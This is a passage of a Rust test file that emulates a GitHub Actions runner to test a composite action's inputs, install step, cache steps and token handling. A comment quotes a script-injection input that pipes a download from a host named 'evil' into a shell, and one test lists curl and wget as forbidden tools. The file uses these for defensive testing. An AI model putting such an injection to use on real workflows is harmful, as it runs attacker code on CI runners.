//! The GitHub Action (`action.yml`): no Actions runner exists here, so [`Job`] plays one. It reads
//! the action's steps and runs its `run:` steps in order, as the runner does: each script written
//! to a file under `RUNNER_TEMP` and run by `bash --noprofile --norc -eo pipefail`, with the
//! inputs (defaults filled in) and the `${{ inputs.* }}`, `${{ github.* }}`, `${{ runner.* }}` and
//! `${{ steps.*.outputs.* }}` expressions of `env:`, `if:` and `with:` evaluated, fresh
//! `GITHUB_OUTPUT`, `GITHUB_ENV`, `GITHUB_PATH` and `GITHUB_STEP_SUMMARY` files for each step, read
//! back after it, and later steps skipped after a failure unless their `if:` says otherwise. The
//! `uses:` steps (actions/cache) cannot run here: the job records whether each would run and with
//! what, and the tests check that.
//!
//! The real test installs the wheel this checkout builds (`support::wheel`) through the action's
//! own install step, unchanged: pip finds it through `PIP_NO_INDEX` and `PIP_FIND_LINKS` in the
//! job's environment, as a user's pip would find it on PyPI. It then bakes against the fake Graph
//! API with the token given as the `token` input, and checks the files, the outputs, and that the
//! token is in no file and no log. Faster tests run the input handling against a stand-in
//! `instabake`, and check the action's cache steps and schema.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use yaml_serde::Value as Yaml;

use crate::support::{self, root, wheel, FakeApi, Fault, Post, Route, Scenario, TOKEN};

/// What `/refresh_access_token` hands out in these tests.
const NEW_TOKEN: &str = "IGQWRrefreshedTOKEN_do_not_leak_0987654321";
/// `github.run_id` and `github.run_attempt` of the emulated run.
const RUN_ID: &str = "4242";
const RUN_ATTEMPT: &str = "3";
/// How long one step may take: creating the virtual environment and installing are seconds.
const STEP_TIMEOUT: Duration = Duration::from_secs(600);

// ---------------------------------------------------------------------------------------------
// action.yml
// ---------------------------------------------------------------------------------------------

/// One step of the composite action, as written.
#[derive(Clone, Debug)]
struct Step {
    name: String,
    id: Option<String>,
    condition: Option<String>,
    shell: Option<String>,
    run: Option<String>,
    uses: Option<String>,
    env: Vec<(String, String)>,
    with: Vec<(String, String)>,
}

/// action.yml, as written.
pub(crate) struct Action {
    /// Each input with its default.
    pub inputs: BTreeMap<String, String>,
    /// Each output with its `value` expression.
    outputs: BTreeMap<String, String>,
    steps: Vec<Step>,
}

/// A YAML scalar as the runner reads it: a string (booleans and numbers spelled as written).
fn scalar(value: &Yaml) -> String {
    match value {
        Yaml::String(s) => s.clone(),
        Yaml::Bool(b) => b.to_string(),
        Yaml::Number(n) => n.to_string(),
        Yaml::Null => String::new(),
        other => panic!("not a scalar: {other:?}"),
    }
}

/// The `(key, value)` pairs of a mapping of scalars (`env:`, `with:`); none when absent.
fn pairs(value: Option<&Yaml>) -> Vec<(String, String)> {
    let Some(value) = value else {
        return Vec::new();
    };
    value
        .as_mapping()
        .unwrap_or_else(|| panic!("not a mapping: {value:?}"))
        .iter()
        .map(|(k, v)| (scalar(k), scalar(v)))
        .collect()
}

fn read_yaml(path: &Path) -> Yaml {
    let text = fs::read_to_string(path).unwrap_or_else(|e| panic!("read {}: {e}", path.display()));
    yaml_serde::from_str(&text).unwrap_or_else(|e| panic!("{} is not YAML: {e}", path.display()))
}

impl Action {
    pub(crate) fn load() -> Action {
        let yaml = read_yaml(&root().join("action.yml"));
        assert_eq!(
            yaml["runs"]["using"].as_str(),
            Some("composite"),
            "a composite action"
        );
        let inputs = yaml["inputs"]
            .as_mapping()
            .expect("inputs")
            .iter()
            .map(|(name, input)| {
                assert!(
                    input.get("required").and_then(Yaml::as_bool) != Some(true),
                    "every input has a default: {name:?}"
                );
                (
                    scalar(name),
                    input.get("default").map(scalar).unwrap_or_default(),
                )
            })
            .collect();
        let outputs = yaml["outputs"]
            .as_mapping()
            .expect("outputs")
            .iter()
            .map(|(name, output)| {
                (
                    scalar(name),
                    scalar(output.get("value").expect("a composite output has a value")),
                )
            })
            .collect();
        let steps = yaml["runs"]["steps"]
            .as_sequence()
            .expect("runs.steps")
            .iter()
            .map(|step| Step {
                name: scalar(step.get("name").expect("every step is named")),
                id: step.get("id").map(scalar),
                condition: step.get("if").map(scalar),
                shell: step.get("shell").map(scalar),
                run: step.get("run").map(scalar),
                uses: step.get("uses").map(scalar),
                env: pairs(step.get("env")),
                with: pairs(step.get("with")),
            })
            .collect();
        Action {
            inputs,
            outputs,
            steps,
        }
    }

    fn step(&self, id: &str) -> &Step {
        self.steps
            .iter()
            .find(|s| s.id.as_deref() == Some(id))
            .unwrap_or_else(|| panic!("no step with id {id}"))
    }

    fn uses(&self, action: &str) -> &Step {
        self.steps
            .iter()
            .find(|s| s.uses.as_deref() == Some(action))
            .unwrap_or_else(|| panic!("no step uses {action}"))
    }
}

// ---------------------------------------------------------------------------------------------
// Expressions: the part of the runner's language the action may use
// ---------------------------------------------------------------------------------------------

/// A value of the expression language.
#[derive(Clone, Debug, PartialEq)]
enum Val {
    Null,
    Bool(bool),
    Num(f64),
    Str(String),
}

impl Val {
    /// `''`, `0`, `false` and `null` are false; every other string, `'false'` included, is true.
    fn truthy(&self) -> bool {
        match self {
            Val::Null => false,
            Val::Bool(b) => *b,
            Val::Num(n) => *n != 0.0 && !n.is_nan(),
            Val::Str(s) => !s.is_empty(),
        }
    }

    fn text(&self) -> String {
        match self {
            Val::Null => String::new(),
            Val::Bool(b) => b.to_string(),
            Val::Num(n) => n.to_string(),
            Val::Str(s) => s.clone(),
        }
    }

    fn number(&self) -> f64 {
        match self {
            Val::Null => 0.0,
            Val::Bool(b) => f64::from(u8::from(*b)),
            Val::Num(n) => *n,
            Val::Str(s) if s.trim().is_empty() => 0.0,
            Val::Str(s) => s.trim().parse().unwrap_or(f64::NAN),
        }
    }

    /// `==`: strings compare case-insensitively; values of different types as numbers.
    fn equals(&self, other: &Val) -> bool {
        match (self, other) {
            (Val::Str(a), Val::Str(b)) => a.eq_ignore_ascii_case(b),
            (Val::Null, Val::Null) => true,
            (Val::Bool(a), Val::Bool(b)) => a == b,
            _ => self.number() == other.number(),
        }
    }
}

#[derive(Clone, Debug, PartialEq)]
enum Tok {
    Str(String),
    Num(f64),
    Path(Vec<String>),
    Open,
    Close,
    Not,
    Eq,
    Ne,
    And,
    Or,
}

fn tokens(expr: &str) -> Vec<Tok> {
    let chars: Vec<char> = expr.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        let two: String = chars[i..chars.len().min(i + 2)].iter().collect();
        match c {
            _ if c.is_whitespace() => i += 1,
            '\'' => {
                let mut s = String::new();
                i += 1;
                loop {
                    match chars.get(i) {
                        None => panic!("unterminated string in {expr:?}"),
                        Some('\'') if chars.get(i + 1) == Some(&'\'') => {
                            s.push('\'');
                            i += 2;
                        }
                        Some('\'') => {
                            i += 1;
                            break;
                        }
                        Some(&c) => {
                            s.push(c);
                            i += 1;
                        }
                    }
                }
                out.push(Tok::Str(s));
            }
            '(' => {
                out.push(Tok::Open);
                i += 1;
            }
            ')' => {
                out.push(Tok::Close);
                i += 1;
            }
            _ if two == "==" => {
                out.push(Tok::Eq);
                i += 2;
            }
            _ if two == "!=" => {
                out.push(Tok::Ne);
                i += 2;
            }
            _ if two == "&&" => {
                out.push(Tok::And);
                i += 2;
            }
            _ if two == "||" => {
                out.push(Tok::Or);
                i += 2;
            }
            '!' => {
                out.push(Tok::Not);
                i += 1;
            }
            _ if c.is_ascii_digit() => {
                let start = i;
                while i < chars.len() && (chars[i].is_ascii_digit() || chars[i] == '.') {
                    i += 1;
                }
                let text: String = chars[start..i].iter().collect();
                out.push(Tok::Num(text.parse().unwrap()));
            }
            _ if c.is_ascii_alphabetic() || c == '_' => {
                let start = i;
                while i < chars.len()
                    && (chars[i].is_ascii_alphanumeric() || matches!(chars[i], '_' | '-' | '.'))
                {
                    i += 1;
                }
                let text: String = chars[start..i].iter().collect();
                out.push(Tok::Path(text.split('.').map(str::to_owned).collect()));
            }
            _ => panic!("the emulated runner does not know {c:?} in {expr:?}"),
        }
    }
    out
}

/// What an expression can see.
struct Context<'a> {
    inputs: &'a BTreeMap<String, String>,
    github: &'a BTreeMap<String, String>,
    runner: &'a BTreeMap<String, String>,
    env: &'a BTreeMap<String, String>,
    /// Each finished step by id: its outputs and whether it succeeded.
    steps: &'a BTreeMap<String, (BTreeMap<String, String>, bool)>,
    /// Every step id of the action, finished or not.
    step_ids: &'a [String],
    /// Whether every step so far succeeded.
    success: bool,
}

impl Context<'_> {
    fn lookup(&self, path: &[String]) -> Val {
        let map_get = |map: &BTreeMap<String, String>, key: &str, what: &str| -> Val {
            Val::Str(
                map.get(key)
                    .unwrap_or_else(|| panic!("{what}.{key} is not known to the emulated runner"))
                    .clone(),
            )
        };
        match path {
            [ctx, name] if ctx == "inputs" => map_get(self.inputs, name, "inputs"),
            [ctx, name] if ctx == "github" => map_get(self.github, name, "github"),
            [ctx, name] if ctx == "runner" => map_get(self.runner, name, "runner"),
            [ctx, name] if ctx == "env" => self.env.get(name).cloned().map_or(Val::Null, Val::Str),
            [ctx, id, rest @ ..] if ctx == "steps" => {
                assert!(
                    self.step_ids.contains(id),
                    "steps.{id}: no step of the action has that id"
                );
                let Some((outputs, success)) = self.steps.get(id) else {
                    return Val::Null;
                };
                match rest {
                    [outputs_word, name] if outputs_word == "outputs" => {
                        outputs.get(name).cloned().map_or(Val::Null, Val::Str)
                    }
                    [word] if word == "outcome" || word == "conclusion" => {
                        Val::Str(if *success { "success" } else { "failure" }.to_owned())
                    }
                    _ => panic!("steps.{id}.{}: not known", rest.join(".")),
                }
            }
            _ => panic!("{} is not known to the emulated runner", path.join(".")),
        }
    }
}

struct Parser<'a, 'c> {
    tokens: Vec<Tok>,
    at: usize,
    context: &'a Context<'c>,
}

impl Parser<'_, '_> {
    fn peek(&self) -> Option<&Tok> {
        self.tokens.get(self.at)
    }

    fn eat(&mut self, tok: &Tok) -> bool {
        if self.peek() == Some(tok) {
            self.at += 1;
            true
        } else {
            false
        }
    }

    fn or(&mut self) -> Val {
        let mut left = self.and();
        while self.eat(&Tok::Or) {
            let right = self.and();
            left = if left.truthy() { left } else { right };
        }
        left
    }

    fn and(&mut self) -> Val {
        let mut left = self.equality();
        while self.eat(&Tok::And) {
            let right = self.equality();
            left = if left.truthy() { right } else { left };
        }
        left
    }

    fn equality(&mut self) -> Val {
        let left = self.unary();
        if self.eat(&Tok::Eq) {
            let right = self.unary();
            return Val::Bool(left.equals(&right));
        }
        if self.eat(&Tok::Ne) {
            let right = self.unary();
            return Val::Bool(!left.equals(&right));
        }
        left
    }

    fn unary(&mut self) -> Val {
        if self.eat(&Tok::Not) {
            return Val::Bool(!self.unary().truthy());
        }
        self.primary()
    }

    fn primary(&mut self) -> Val {
        let tok = self.peek().cloned().expect("an expression ends too early");
        self.at += 1;
        match tok {
            Tok::Str(s) => Val::Str(s),
            Tok::Num(n) => Val::Num(n),
            Tok::Open => {
                let value = self.or();
                assert!(self.eat(&Tok::Close), "a ( is not closed");
                value
            }
            Tok::Path(path) if self.peek() == Some(&Tok::Open) => {
                self.at += 1;
                assert!(
                    self.eat(&Tok::Close),
                    "functions with arguments are not emulated"
                );
                let success = self.context.success;
                match path.join(".").as_str() {
                    "success" => Val::Bool(success),
                    "failure" => Val::Bool(!success),
                    "always" => Val::Bool(true),
                    "cancelled" => Val::Bool(false),
                    other => panic!("the emulated runner does not know the function {other}()"),
                }
            }
            Tok::Path(path) => match path.join(".").as_str() {
                "true" => Val::Bool(true),
                "false" => Val::Bool(false),
                "null" => Val::Null,
                _ => self.context.lookup(&path),
            },
            other => panic!("unexpected {other:?}"),
        }
    }
}

fn evaluate(expr: &str, context: &Context) -> Val {
    let mut parser = Parser {
        tokens: tokens(expr),
        at: 0,
        context,
    };
    let value = parser.or();
    assert!(
        parser.peek().is_none(),
        "{expr:?}: unexpected {:?}",
        parser.peek()
    );
    value
}

/// A string with `${{ ... }}` parts, each replaced by its value.
fn substitute(text: &str, context: &Context) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(start) = rest.find("${{") {
        out.push_str(&rest[..start]);
        let end = rest[start..]
            .find("}}")
            .unwrap_or_else(|| panic!("unclosed ${{{{ in {text:?}"))
            + start;
        out.push_str(&evaluate(&rest[start + 3..end], context).text());
        rest = &rest[end + 2..];
    }
    out.push_str(rest);
    out
}

/// An `if:` condition: an expression, `${{ }}` optional; without a status function it also needs
/// every earlier step to have succeeded, as if `success() &&` stood before it.
fn condition(condition: Option<&str>, context: &Context) -> bool {
    let Some(text) = condition else {
        return context.success;
    };
    let text = text.trim();
    let expr = text
        .strip_prefix("${{")
        .and_then(|t| t.strip_suffix("}}"))
        .unwrap_or(text);
    let has_status = ["success(", "failure(", "always(", "cancelled("]
        .iter()
        .any(|f| expr.contains(f));
    let value = evaluate(expr, context).truthy();
    if has_status {
        value
    } else {
        context.success && value
    }
}

/// The lines of a `GITHUB_OUTPUT` or `GITHUB_ENV` file: `name=value`, or `name<<DELIMITER`, the
/// value's lines, and `DELIMITER`.
fn file_commands(text: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut lines = text.lines();
    while let Some(line) = lines.next() {
        if line.is_empty() {
            continue;
        }
        let equals = line.find('=');
        let heredoc = line.find("<<");
        match (equals, heredoc) {
            (Some(e), h) if h.is_none_or(|h| e < h) => {
                out.push((line[..e].to_owned(), line[e + 1..].to_owned()));
            }
            (_, Some(h)) => {
                let delimiter = &line[h + 2..];
                let mut value = Vec::new();
                loop {
                    let next = lines
                        .next()
                        .unwrap_or_else(|| panic!("no {delimiter} after {line:?}"));
                    if next == delimiter {
                        break;
                    }
                    value.push(next);
                }
                out.push((line[..h].to_owned(), value.join("\n")));
            }
            _ => panic!("the runner rejects this file command line: {line:?}"),
        }
    }
    out
}

// ---------------------------------------------------------------------------------------------
// The emulated job
// ---------------------------------------------------------------------------------------------

/// What one step of the action did.
#[derive(Debug)]
struct StepRun {
    name: String,
    id: Option<String>,
    uses: Option<String>,
    /// Whether it ran (for a `uses:` step: whether the runner would run it).
    ran: bool,
    /// For a run step that ran: whether it succeeded.
    success: Option<bool>,
    /// The `with:` of a `uses:` step, evaluated.
    with: BTreeMap<String, String>,
}

/// One use of the action.
#[derive(Debug)]
struct ActionRun {
    steps: Vec<StepRun>,
    outputs: BTreeMap<String, String>,
    success: bool,
    /// What the runner would show: each script, then what it printed, `::add-mask::` lines left
    /// out (the runner consumes them; masked values are not replaced: the tests want none there).
    log: String,
    /// The step summaries the steps wrote.
    summary: String,
}

impl ActionRun {
    fn uses(&self, action: &str) -> &StepRun {
        self.steps
            .iter()
            .find(|s| s.uses.as_deref() == Some(action))
            .unwrap_or_else(|| panic!("no step uses {action}"))
    }

    fn step(&self, id: &str) -> &StepRun {
        self.steps
            .iter()
            .find(|s| s.id.as_deref() == Some(id))
            .unwrap_or_else(|| {
                let names: Vec<&str> = self.steps.iter().map(|s| s.name.as_str()).collect();
                panic!("no step with the id {id} among {names:?}")
            })
    }

    fn output(&self, name: &str) -> &str {
        self.outputs
            .get(name)
            .unwrap_or_else(|| panic!("no output {name}: {:?}", self.outputs))
    }

    fn assert_success(&self) -> &Self {
        assert!(self.success, "the action failed:\n{}", self.log);
        self
    }
}

/// A job on an emulated runner: a workspace, `RUNNER_TEMP`, a home folder, the job's environment
/// and the folders steps added to `PATH`, kept from one use of the action to the next.
struct Job {
    dir: tempfile::TempDir,
    workspace: PathBuf,
    runner_temp: PathBuf,
    home: PathBuf,
    /// Set by test doubles: `cargo`, `rustc`, `rustup` and `maturin` write here when called.
    compiler_calls: PathBuf,
    env: BTreeMap<String, String>,
    /// `GITHUB_PATH` additions, the newest first (the runner puts the newest first on `PATH`).
    path: Vec<String>,
    github: BTreeMap<String, String>,
    runner: BTreeMap<String, String>,
    steps_run: usize,
    action: Action,
}

fn write_executable(path: &Path, text: &str) {
    fs::write(path, text).unwrap();
    fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
}

/// The folder of the Python 3 that `python3` runs (not a pyenv shim, which needs the real `HOME`).
fn python_dir() -> PathBuf {
    let out = Command::new("python3")
        .args(["-c", "import sys; print(sys.executable)"])
        .output()
        .expect("python3");
    assert!(out.status.success());
    PathBuf::from(String::from_utf8(out.stdout).unwrap().trim())
        .parent()
        .unwrap()
        .to_path_buf()
}

impl Job {
    fn new() -> Job {
        let dir = tempfile::Builder::new()
            .prefix("instabake-action-")
            .tempdir()
            .unwrap();
        let workspace = dir.path().join("workspace");
        let runner_temp = dir.path().join("runner-temp");
        let home = dir.path().join("home");
        let tools = dir.path().join("tools");
        for folder in [&workspace, &runner_temp, &home, &tools] {
            fs::create_dir(folder).unwrap();
        }
        // Installing must not compile: any Rust tool that is called says so and fails. Only a
        // version query is no build (pip asks `rustc --version` for its user agent).
        let compiler_calls = dir.path().join("compiler-calls");
        for tool in ["cargo", "rustc", "rustup", "maturin"] {
            write_executable(
                &tools.join(tool),
                &format!(
                    "#!/bin/sh\ncase \"$*\" in --version | -V | -vV) exit 1 ;; esac\n\
                     echo \"{tool} $*\" >> '{}'\nexit 1\n",
                    compiler_calls.display()
                ),
            );
        }
        let path = std::env::join_paths(
            [tools, python_dir()]
                .into_iter()
                .chain(std::env::split_paths(&std::env::var_os("PATH").unwrap())),
        )
        .unwrap();
        let mut env = BTreeMap::new();
        env.insert("PATH".to_owned(), path.into_string().unwrap());
        env.insert("HOME".to_owned(), home.display().to_string());
        env.insert("LANG".to_owned(), "C.UTF-8".to_owned());
        // The fake API, never the real one.
        env.insert("INSTABAKE_API_BASE".to_owned(), support::NOWHERE.to_owned());
        let github = BTreeMap::from([
            ("run_id".to_owned(), RUN_ID.to_owned()),
            ("run_attempt".to_owned(), RUN_ATTEMPT.to_owned()),
            ("workspace".to_owned(), workspace.display().to_string()),
            // `uses: instabake/instabake@v0.1.0`, this checkout's version.
            (
                "action_ref".to_owned(),
                format!("v{}", env!("CARGO_PKG_VERSION")),
            ),
            ("action_path".to_owned(), root().display().to_string()),
        ]);
        let runner = BTreeMap::from([
            ("os".to_owned(), "Linux".to_owned()),
            ("arch".to_owned(), "X64".to_owned()),
            ("temp".to_owned(), runner_temp.display().to_string()),
        ]);
        Job {
            dir,
            workspace,
            runner_temp,
            home,
            compiler_calls,
            env,
            path: Vec::new(),
            github,
            runner,
            steps_run: 0,
            action: Action::load(),
        }
    }

    /// pip finds the wheel in a folder of its own, as on PyPI, with no index to ask.
    fn offer_wheel(&mut self, wheel: &Path) {
        let links = self.dir.path().join("links");
        fs::create_dir_all(&links).unwrap();
        fs::copy(wheel, links.join(wheel.file_name().unwrap())).unwrap();
        self.env.insert("PIP_NO_INDEX".to_owned(), "1".to_owned());
        self.env
            .insert("PIP_FIND_LINKS".to_owned(), links.display().to_string());
    }

    /// The environment of a step: the job's, the runner's variables, `PATH` with the `GITHUB_PATH`
    /// additions first.
    fn step_env(&self) -> BTreeMap<String, String> {
        let mut env = self.env.clone();
        let path = self
            .path
            .iter()
            .cloned()
            .chain(std::iter::once(self.env["PATH"].clone()))
            .collect::<Vec<_>>()
            .join(":");
        env.insert("PATH".to_owned(), path);
        for (name, value) in [
            ("CI", "true"),
            ("GITHUB_ACTIONS", "true"),
            ("RUNNER_OS", &self.runner["os"]),
            ("RUNNER_ARCH", &self.runner["arch"]),
            ("RUNNER_TEMP", &self.runner["temp"]),
            ("GITHUB_WORKSPACE", &self.github["workspace"]),
            ("GITHUB_RUN_ID", &self.github["run_id"]),
            ("GITHUB_RUN_ATTEMPT", &self.github["run_attempt"]),
            ("GITHUB_ACTION_PATH", &self.github["action_path"]),
        ] {
            env.insert(name.to_owned(), value.to_owned());
        }
        env
    }

    /// Uses the action with these inputs (`with:`), running every step.
    fn run_action(&mut self, with: &[(&str, &str)]) -> ActionRun {
        self.run_action_without(with, &[])
    }

    /// Uses the action with these inputs, leaving out the steps with the ids in `skip` (the install
    /// step, for the tests that put a stand-in `instabake` on `PATH`).
    fn run_action_without(&mut self, with: &[(&str, &str)], skip: &[&str]) -> ActionRun {
        let mut inputs = self.action.inputs.clone();
        for (name, value) in with {
            assert!(
                inputs.contains_key(*name),
                "the action has no input {name} (the runner would only warn)"
            );
            inputs.insert((*name).to_owned(), (*value).to_owned());
        }
        let step_ids: Vec<String> = self
            .action
            .steps
            .iter()
            .filter_map(|s| s.id.clone())
            .collect();
        let mut finished: BTreeMap<String, (BTreeMap<String, String>, bool)> = BTreeMap::new();
        let mut success = true;
        let mut runs = Vec::new();
        let mut log = String::new();
        let mut summary = String::new();
        for step in self.action.steps.clone() {
            let env = self.step_env();
            let context = Context {
                inputs: &inputs,
                github: &self.github,
                runner: &self.runner,
                env: &env,
                steps: &finished,
                step_ids: &step_ids,
                success,
            };
            let skipped = step.id.as_deref().is_some_and(|id| skip.contains(&id));
            let ran = !skipped && condition(step.condition.as_deref(), &context);
            let with: BTreeMap<String, String> = step
                .with
                .iter()
                .map(|(k, v)| (k.clone(), substitute(v, &context)))
                .collect();
            let mut record = StepRun {
                name: step.name.clone(),
                id: step.id.clone(),
                uses: step.uses.clone(),
                ran,
                success: None,
                with,
            };
            if !ran || step.uses.is_some() {
                runs.push(record);
                continue;
            }
            let script = substitute(step.run.as_deref().expect("run or uses"), &context);
            assert_eq!(
                step.shell.as_deref(),
                Some("bash"),
                "{}: run steps use bash",
                step.name
            );
            let mut step_env = env.clone();
            for (name, value) in &step.env {
                step_env.insert(name.clone(), substitute(value, &context));
            }
            let (ok, outputs, printed, step_summary) = self.run_script(&script, step_env);
            log.push_str(&format!("▶ Run {}\n{script}\n{printed}", step.name));
            summary.push_str(&step_summary);
            success &= ok;
            record.success = Some(ok);
            if let Some(id) = &step.id {
                finished.insert(id.clone(), (outputs, ok));
            }
            runs.push(record);
        }
        let env = self.step_env();
        let context = Context {
            inputs: &inputs,
            github: &self.github,
            runner: &self.runner,
            env: &env,
            steps: &finished,
            step_ids: &step_ids,
            success,
        };
        let outputs = self
            .action
            .outputs
            .iter()
            .map(|(name, value)| (name.clone(), substitute(value, &context)))
            .collect();
        ActionRun {
            steps: runs,
            outputs,
            success,
            log,
            summary,
        }
    }

    /// Runs one script as the runner runs `shell: bash`, and reads the file commands back:
    /// `(succeeded, outputs, what it printed, its step summary)`.
    fn run_script(
        &mut self,
        script: &str,
        mut env: BTreeMap<String, String>,
    ) -> (bool, BTreeMap<String, String>, String, String) {
        self.steps_run += 1;
        let n = self.steps_run;
        let commands = self.runner_temp.join("_runner_file_commands");
        fs::create_dir_all(&commands).unwrap();
        let file = |name: &str| commands.join(format!("{name}_{n}"));
        for (var, name) in [
            ("GITHUB_OUTPUT", "set_output"),
            ("GITHUB_ENV", "set_env"),
            ("GITHUB_PATH", "add_path"),
            ("GITHUB_STEP_SUMMARY", "step_summary"),
        ] {
            fs::write(file(name), "").unwrap();
            env.insert(var.to_owned(), file(name).display().to_string());
        }
        // The runner keeps no script once the step is done, but it was a file on disk: the tests
        // look for the token in it.
        let script_file = self.runner_temp.join(format!("step-{n}.sh"));
        fs::write(&script_file, script).unwrap();
        let mut command = Command::new("bash");
        command
            .args(["--noprofile", "--norc", "-eo", "pipefail"])
            .arg(&script_file)
            .current_dir(&self.workspace)
            .env_clear()
            .envs(&env)
            .stdin(std::process::Stdio::null());
        let (ok, stdout, stderr) = match support::run_with_timeout(&mut command, STEP_TIMEOUT) {
            support::Finished::Exited(status, out, err) => (status.success(), out, err),
            support::Finished::TimedOut(out, err) => {
                panic!("a step did not finish within {STEP_TIMEOUT:?}:\n{script}\n{out}\n{err}")
            }
        };
        let printed: String = stdout
            .lines()
            .chain(stderr.lines())
            .filter(|line| !line.starts_with("::add-mask::"))
            .map(|line| format!("{line}\n"))
            .collect();
        let read = |name: &str| fs::read_to_string(file(name)).unwrap();
        let outputs = file_commands(&read("set_output")).into_iter().collect();
        for (name, value) in file_commands(&read("set_env")) {
            self.env.insert(name, value);
        }
        for line in read("add_path").lines().filter(|l| !l.is_empty()) {
            self.path.retain(|p| p != line);
            self.path.insert(0, line.to_owned());
        }
        (ok, outputs, printed, read("step_summary"))
    }

    /// A later step of the user's workflow: `script` in bash with the job's environment.
    fn later_step(&mut self, script: &str) -> String {
        let env = self.step_env();
        let (ok, _, printed, _) = self.run_script(script, env);
        assert!(ok, "{script}:\n{printed}");
        printed
    }

    /// A stand-in `instabake` on `PATH` (and `python`, which the action's run step uses from the
    /// virtual environment), recording into `record/` what it was given: its arguments
    /// (NUL-terminated), `INSTAGRAM_ACCESS_TOKEN` when set, and its environment's names. It appends
    /// `$STUB_SUMMARY` to the step summary and exits `$STUB_EXIT`.
    fn stand_in_instabake(&mut self) -> PathBuf {
        let bin = self.dir.path().join("stand-in");
        let record = self.dir.path().join("record");
        fs::create_dir_all(&bin).unwrap();
        fs::create_dir_all(&record).unwrap();
        write_executable(
            &bin.join("instabake"),
            &format!(
                r#"#!/usr/bin/env bash
set -e
record='{}'
printf '%s\0' "$@" > "$record/argv"
if [ "${{INSTAGRAM_ACCESS_TOKEN+set}}" = set ]; then printf '%s' "$INSTAGRAM_ACCESS_TOKEN" > "$record/token"; fi
compgen -e > "$record/env-names"
if [ -n "${{STUB_SUMMARY:-}}" ]; then printf '%s\n' "$STUB_SUMMARY" >> "$GITHUB_STEP_SUMMARY"; fi
exit "${{STUB_EXIT:-0}}"
"#,
                record.display()
            ),
        );
        std::os::unix::fs::symlink(python_dir().join("python3"), bin.join("python")).unwrap();
        self.path.insert(0, bin.display().to_string());
        record
    }
}

/// The arguments the stand-in was called with, or `None` when it was not called.
fn recorded_argv(record: &Path) -> Option<Vec<String>> {
    let bytes = fs::read(record.join("argv")).ok()?;
    fs::remove_file(record.join("argv")).unwrap();
    Some(
        bytes
            .split(|b| *b == 0)
            .filter(|w| !w.is_empty())
            .map(|w| String::from_utf8(w.to_vec()).unwrap())
            .collect(),
    )
}

/// Fails if `needle` is in any file under `dir` (names included), except the files in `allowed`.
fn assert_not_in_files(dir: &Path, needle: &str, allowed: &[&Path]) {
    let mut found = Vec::new();
    for path in support::files_under(dir) {
        if allowed.contains(&path.as_path()) {
            continue;
        }
        let bytes = fs::read(&path).unwrap_or_default();
        if path.display().to_string().contains(needle)
            || bytes.windows(needle.len()).any(|w| w == needle.as_bytes())
        {
            found.push(path);
        }
    }
    assert!(found.is_empty(), "{needle:?} is written in {found:#?}");
}

// ---------------------------------------------------------------------------------------------
// What action.yml says
// ---------------------------------------------------------------------------------------------

/// Script injection: a `${{ }}` expression inside a `run:` script is pasted into the script before
/// bash reads it, so an input such as `"; curl evil | sh; "` would run. Inputs reach scripts only
/// through `env:`.
#[test]
fn inputs_reach_the_scripts_through_env_only() {
    let action = Action::load();
    let mut run_steps = 0;
    for step in &action.steps {
        assert!(
            step.run.is_some() != step.uses.is_some(),
            "{}: either run or uses",
            step.name
        );
        if let Some(script) = &step.run {
            run_steps += 1;
            assert!(
                !script.contains("${{"),
                "{}: an expression inside a run script is script injection; pass it through env:\n{script}",
                step.name
            );
            assert_eq!(step.shell.as_deref(), Some("bash"), "{}", step.name);
        }
    }
    assert!(run_steps >= 3, "{run_steps} run steps");
    // The token reaches one step only, the one that runs instabake.
    let with_token: Vec<&str> = action
        .steps
        .iter()
        .filter(|s| s.env.iter().any(|(_, v)| v.contains("inputs.token")))
        .map(|s| s.name.as_str())
        .collect();
    assert_eq!(with_token, ["Run instabake"]);
}

/// The install step installs the prebuilt wheel from PyPI and never compiles: `--only-binary`
/// makes pip fail on a platform without a wheel instead of building the source distribution
/// (minutes, and a Rust toolchain). The real test also runs it with failing stand-ins for the
/// Rust tools.
#[test]
fn the_install_step_installs_the_prebuilt_wheel() {
    let action = Action::load();
    let script = action.step("install").run.as_deref().unwrap();
    let pip = script
        .lines()
        .find(|l| l.contains("-m pip install"))
        .expect("a pip install");
    assert!(pip.contains("--only-binary=:all:"), "{pip}");
    for tool in ["cargo", "rustup", "maturin", "curl", "wget"] {
        assert!(!script.contains(tool), "the install step calls {tool}");
    }
    assert!(script.contains(r#"venv="$RUNNER_TEMP/"#), "{script}");
    assert!(script.contains(r#">> "$GITHUB_PATH""#), "{script}");
}

/// The cache steps keep `<site>/.instabake` under the key scheme the workflows used before the
/// action (`instabake-cache-<run id>-<attempt>`, restored by the prefix), restore before the
/// command, and save right after it, only when it succeeded and `cache` is `true`.
#[test]
fn the_cache_steps_restore_before_and_save_only_after_success() {
    let action = Action::load();
    let restore = action.uses("actions/cache/restore@v6");
    let save = action.uses("actions/cache/save@v6");
    let position = |name: &str| action.steps.iter().position(|s| s.name == name).unwrap();
    assert!(position(&restore.name) < position("Run instabake"));
    assert_eq!(position(&save.name), position("Run instabake") + 1);
    let with = |step: &Step| -> BTreeMap<String, String> { step.with.iter().cloned().collect() };
    assert_eq!(with(restore)["path"], with(save)["path"]);
    assert_eq!(with(restore)["key"], with(save)["key"]);
    assert_eq!(with(restore)["restore-keys"].trim(), "instabake-cache-");

    // The conditions, for each value of `cache`, after a command that succeeded or failed.
    let env = BTreeMap::new();
    let github = BTreeMap::new();
    let runner = BTreeMap::new();
    let step_ids: Vec<String> = action.steps.iter().filter_map(|s| s.id.clone()).collect();
    let finished = BTreeMap::new();
    for (cache, restores, saves) in [
        ("true", true, true),
        ("TRUE", true, true),
        ("restore", true, false),
        ("false", false, false),
    ] {
        let mut inputs = action.inputs.clone();
        inputs.insert("cache".to_owned(), cache.to_owned());
        for success in [true, false] {
            let context = Context {
                inputs: &inputs,
                github: &github,
                runner: &runner,
                env: &env,
                steps: &finished,
                step_ids: &step_ids,
                success,
            };
            if success {
                assert_eq!(
                    condition(restore.condition.as_deref(), &context),
                    restores,
                    "restore with cache: {cache}"
                );
            }
            assert_eq!(
                condition(save.condition.as_deref(), &context),
                saves && success,
                "save with cache: {cache}, after a command that {}",
